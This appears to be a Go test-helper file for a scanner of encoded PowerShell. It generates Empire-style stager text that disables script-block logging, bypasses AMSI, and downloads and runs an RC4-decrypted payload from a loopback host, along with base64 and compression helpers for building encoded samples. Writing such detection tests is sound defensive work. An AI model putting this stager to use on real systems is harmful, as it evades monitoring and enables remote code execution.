package payload

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"
)

// stagerOptions shape a harmless, Empire-like stager text. It is only ever
// encoded and scanned, never executed; hosts are loopback or .invalid.
type stagerOptions struct {
	host      string // listener host, e.g. 127.0.0.1 or c2.example.invalid
	userAgent string
	padTo     int // pad with inert RC4 setup lines up to this many characters
}

// empireStager writes text shaped like Empire's launcher: script-block
// logging disabled through cachedGroupPolicySettings, AMSI bypassed through
// AmsiUtils/amsiInitFailed, a System.Net.WebClient with a browser
// User-Agent fetching /admin/get.php, RC4 with -bxor, and IEX.
func empireStager(opt stagerOptions) string {
	var sb strings.Builder
	sb.WriteString(`If($PSVersionTable.PSVersion.Major -ge 3){$GPF=[ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings','NonPublic,Static');`)
	sb.WriteString(`If($GPF){$GPC=$GPF.GetValue($null);If($GPC['ScriptBlockLogging']){$GPC['ScriptBlockLogging']['EnableScriptBlockLogging']=0;$GPC['ScriptBlockLogging']['EnableScriptBlockInvocationLogging']=0}};`)
	sb.WriteString(`[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)};`)
	sb.WriteString(`[System.Net.ServicePointManager]::Expect100Continue=0;$wc=New-Object System.Net.WebClient;`)
	sb.WriteString(`$u='` + opt.userAgent + `';$ser='http://` + opt.host + `:80';$t='/admin/get.php';`)
	sb.WriteString(`$wc.Headers.Add('User-Agent',$u);$wc.Proxy=[System.Net.WebRequest]::DefaultWebProxy;$wc.Proxy.Credentials=[System.Net.CredentialCache]::DefaultNetworkCredentials;`)
	sb.WriteString(`$K=[System.Text.Encoding]::ASCII.GetBytes('0123456789abcdef0123456789abcdef');`)
	for sb.Len() < opt.padTo-600 {
		sb.WriteString(`$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};`)
	}
	sb.WriteString(`$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};`)
	sb.WriteString(`$D|%{$I=($I+1)%256;$H=($H+$S[$I])%256;$S[$I],$S[$H]=$S[$H],$S[$I];$_-bxor$S[($S[$I]+$S[$H])%256]}};`)
	sb.WriteString(`$wc.Headers.Add("Cookie","session=c2Vzc2lvbg==");$data=$wc.DownloadData($ser+$t);$iv=$data[0..3];$data=$data[4..$data.length];`)
	sb.WriteString(`-join[Char[]](& $R $data ($IV+$K))|IEX`)
	return sb.String()
}

var defaultStager = stagerOptions{
	host:      "127.0.0.1",
	userAgent: "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
}

// encodeUTF16LE is what PowerShell's [Text.Encoding]::Unicode.GetBytes does.
func encodeUTF16LE(s string) []byte {
	units := utf16.Encode([]rune(s))
	out := make([]byte, 0, 2*len(units))
	for _, u := range units {
		out = append(out, byte(u), byte(u>>8))
	}
	return out
}

// empireEncode is how Empire builds the -enc argument: base64(UTF-16LE(script)).
func empireEncode(script string) string {
	return base64.StdEncoding.EncodeToString(encodeUTF16LE(script))
}

func b64(b []byte) []byte { return []byte(base64.StdEncoding.EncodeToString(b)) }

func deflateRaw(t testing.TB, b []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := flate.NewWriter(&buf, flate.BestCompression)
	if err != nil {
		t.Fatalf("flate writer: %v", err)
	}
	mustWrite(t, w, b)
	return buf.Bytes()
}

func zlibBytes(t testing.TB, b []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	mustWrite(t, zlib.NewWriter(&buf), b)
	return buf.Bytes()
}

func gzipBytes(t testing.TB, b []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	mustWrite(t, gzip.NewWriter(&buf), b)
	return buf.Bytes()
}

type writeCloser interface {
	Write([]byte) (int, error)
	Close() error
}

func mustWrite(t testing.TB, w writeCloser, b []byte) {
	t.Helper()
	if _, err := w.Write(b); err != nil {
		t.Fatalf("compress: %v", err)
	}
	if err := w.Close(); err != nil {
		t.Fatalf("compress close: %v", err)
	}
}

// storedThenDeflate writes a raw-deflate stream whose first block is a
// stored (uncompressed) block holding lead, followed by compressed blocks
// holding rest: the stream's first bytes read as printable text.
func storedThenDeflate(t testing.TB, lead, rest string) []byte {
	t.Helper()
	n := len(lead)
	out := []byte{0x00, byte(n), byte(n >> 8), ^byte(n), ^byte(n >> 8)}
	out = append(out, lead...)
	return append(out, deflateRaw(t, []byte(rest))...)
}

// deflateStored is raw deflate at NoCompression: stored blocks only.
func deflateStored(t testing.TB, b []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := flate.NewWriter(&buf, flate.NoCompression)
	if err != nil {
		t.Fatalf("flate writer: %v", err)
	}
	mustWrite(t, w, b)
	return buf.Bytes()
}
